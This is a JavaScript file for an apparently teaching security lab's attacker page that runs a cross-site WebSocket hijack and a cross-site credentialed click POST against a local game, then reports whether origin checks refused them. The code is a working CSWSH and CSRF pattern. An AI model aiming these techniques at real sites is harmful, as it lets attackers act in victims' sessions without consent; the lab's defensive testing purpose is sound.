// The attacker's page (src/lab/attacker.rs). Attacks 1 and 2 run here, in the visitor's
// browser, against the game on this same host; 3 to 6 are run by this site's server
// (POST /attack/N) and only shown here. Everything from the game or the server is written with
// textContent. Findings also go to window.__reports (as in e2e/attacker.mjs), for the tests.

window.__reports = [];
function report(name, value) {
  window.__reports.push({ name, value, at: Date.now() });
}

const $ = (sel) => document.querySelector(sel);
let game = null; // {http: 'http://host:port', ws: 'ws://host:port'}

function el(tag, text, className) {
  const node = document.createElement(tag);
  if (text !== undefined) node.textContent = text;
  if (className) node.className = className;
  return node;
}

/** Shows an outcome (`succeeded`, `refused`, `failed`), a summary and detail lines. */
function show(n, outcome, summary, lines = []) {
  const box = $(`[data-testid="result-${n}"]`);
  box.dataset.outcome = outcome;
  const label = { succeeded: 'The attack worked', refused: 'Refused', failed: 'Could not run' }[outcome] ?? outcome;
  const list = el('ul');
  for (const line of lines) list.append(el('li', line));
  box.replaceChildren(el('p', `${label}: ${summary}`, 'summary'), list);
  report(`attack-${n}`, { outcome, summary, lines });
}

function busy(n, text) {
  const box = $(`[data-testid="result-${n}"]`);
  box.dataset.outcome = 'running';
  box.replaceChildren(el('p', text, 'summary'));
}

async function observe() {
  const res = await fetch('/observe', { cache: 'no-store' });
  if (!res.ok) throw new Error(`the game could not be observed (HTTP ${res.status})`);
  return res.json();
}

/** The running round from the game's public snapshot, waiting up to `ms` for one to open. */
async function openRound(ms = 6000) {
  const until = Date.now() + ms;
  for (;;) {
    const snap = await observe();
    if (snap.round && snap.round.winner === null) return snap;
    if (Date.now() > until) return null;
    await new Promise((r) => setTimeout(r, 100));
  }
}

// ---- 1. Cross-site WebSocket hijacking ------------------------------------------------------

function hijack() {
  return new Promise((resolve) => {
    const seen = { opened: false, events: 0, types: [], players: [], click: null, closeCode: null };
    let ws;
    try {
      ws = new WebSocket(`${game.ws}/api/ws`, 'clickgame.v1');
    } catch (err) {
      resolve({ ...seen, error: String(err) });
      return;
    }
    const done = () => {
      clearTimeout(timer);
      resolve(seen);
    };
    const timer = setTimeout(() => {
      ws.close();
      done();
    }, 8000);
    const click = (round, x, y) => ws.send(JSON.stringify({ type: 'click', id: 1, round, x, y }));
    ws.onopen = () => {
      seen.opened = true;
      ws.send(JSON.stringify({ type: 'resume' }));
    };
    ws.onmessage = (m) => {
      let msg;
      try {
        msg = JSON.parse(m.data);
      } catch {
        return;
      }
      seen.events += 1;
      if (seen.types.length < 12) seen.types.push(msg.type);
      if (msg.type === 'snapshot') {
        seen.players = (msg.players ?? []).map((p) => `${p.name} (#${p.id}, score ${p.score})`);
        if (msg.round && msg.round.winner === null) click(msg.round.number, msg.round.x, msg.round.y);
      } else if (msg.type === 'round_started') {
        click(msg.round, msg.x, msg.y);
      } else if (msg.type === 'click_result' || msg.type === 'error') {
        seen.click = msg.result ?? msg.error;
        ws.close();
      }
    };
    ws.onclose = (e) => {
      seen.closeCode = e.code;
      done();
    };
  });
}

async function attack1() {
  busy(1, 'Opening the game\'s WebSocket from this origin…');
  const seen = await hijack();
  if (!seen.opened) {
    show(1, 'refused', 'the server refused the handshake before any upgrade (the browser hides the status: the defence log shows 403 origin_not_allowed).', [
      `close code seen by this page: ${seen.closeCode} (1006: the connection never opened)`,
    ]);
    return;
  }
  show(1, 'succeeded', `the socket opened with your cookie; read ${seen.events} events as you${seen.click ? ` and clicked in your name: ${seen.click}` : ''}.`, [
    `event types: ${seen.types.join(', ')}`,
    `players seen: ${seen.players.join('; ') || 'none'}`,
  ]);
}

// ---- 2. Cross-site click --------------------------------------------------------------------

async function attack2() {
  busy(2, 'Waiting for a target, then sending a text/plain POST with your cookie…');
  let before;
  try {
    before = await openRound();
  } catch (err) {
    show(2, 'failed', err.message);
    return;
  }
  if (!before) {
    show(2, 'failed', 'no round opened within 6 s (is the game paused?)');
    return;
  }
  const r = before.round;
  let sent = 'sent';
  try {
    await fetch(`${game.http}/api/click`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      headers: { 'Content-Type': 'text/plain' },
      body: JSON.stringify({ round: r.number, x: r.x, y: r.y }),
    });
  } catch (err) {
    sent = `failed to send: ${err.message}`;
  }
  await new Promise((res) => setTimeout(res, 500));
  const after = await observe();
  const changes = [];
  for (const p of after.players ?? []) {
    const was = (before.players ?? []).find((q) => q.id === p.id);
    if (was && (p.score !== was.score || p.misses !== was.misses)) {
      changes.push(`${p.name} (#${p.id}): score ${was.score} → ${p.score}, misses ${was.misses} → ${p.misses}`);
    }
  }
  const won = after.round && after.round.number === r.number && after.round.winner !== null;
  if (changes.length > 0) {
    show(2, 'succeeded', `the click was counted for the visitor — round ${r.number}${won ? ` won by player ${after.round.winner}` : ''}.`, [
      `request: ${sent} (its answer is opaque to this page)`,
      ...changes,
    ]);
  } else {
    show(2, 'refused', 'no score changed: the server refused the click (the defence log shows 403 origin_not_allowed).', [
      `request: ${sent} (its answer is opaque to this page)`,
    ]);
  }
}

// ---- 3 to 6: run by this site's server ------------------------------------------------------

async function serverAttack(n) {
  busy(n, 'This site\'s server is attacking the game…');
  const victim = n === 5 ? $('[data-testid="victim"]').value : '';
  let transcript;
  try {
    const res = await fetch(`/attack/${n}${victim ? `?victim=${encodeURIComponent(victim)}` : ''}`, { method: 'POST' });
    transcript = await res.json();
    if (!res.ok) throw new Error(transcript.detail ?? `HTTP ${res.status}`);
  } catch (err) {
    show(n, 'failed', err.message);
    return;
  }
  const lines = transcript.steps.map((s) => `${s.refused ? '✗' : '✓'} ${s.sent} → ${s.answer}`);
  const outcome = transcript.succeeded ? 'succeeded' : transcript.steps.length ? 'refused' : 'failed';
  show(n, outcome, transcript.summary, lines);
}

async function fillVictims() {
  try {
    const snap = await observe();
    const select = $('[data-testid="victim"]');
    const keep = select.value;
    const options = [el('option', 'the first other player')];
    options[0].value = '';
    for (const p of snap.players ?? []) {
      const o = el('option', `${p.name} (#${p.id})`);
      o.value = String(p.id);
      options.push(o);
    }
    select.replaceChildren(...options);
    select.value = keep;
  } catch {
    // the game may be restarting; try again at the next tick
  }
}

async function start() {
  const ports = await (await fetch('/target', { cache: 'no-store' })).json();
  // The game on *this* host: if you opened this page as localhost, the game is localhost too,
  // so your cookie for that name rides along.
  const host = window.location.hostname.includes(':') && !window.location.hostname.startsWith('[')
    ? `[${window.location.hostname}]`
    : window.location.hostname;
  game = { http: `http://${host}:${ports.http_port}`, ws: `ws://${host}:${ports.http_port}` };
  $('[data-field="origin"]').textContent = window.location.origin;
  $('[data-field="game"]').textContent = game.http;
  const actions = { 1: attack1, 2: attack2, 3: () => serverAttack(3), 4: () => serverAttack(4), 5: () => serverAttack(5), 6: () => serverAttack(6) };
  for (const [n, run] of Object.entries(actions)) {
    const button = $(`[data-testid="attack-${n}"]`);
    button.addEventListener('click', async () => {
      button.disabled = true;
      try {
        await run();
      } catch (err) {
        show(n, 'failed', String(err && err.message || err));
      } finally {
        button.disabled = false;
      }
    });
  }
  fillVictims();
  setInterval(fillVictims, 3000);
  document.body.dataset.ready = 'true';
}

start().catch((err) => report('error', String(err)));
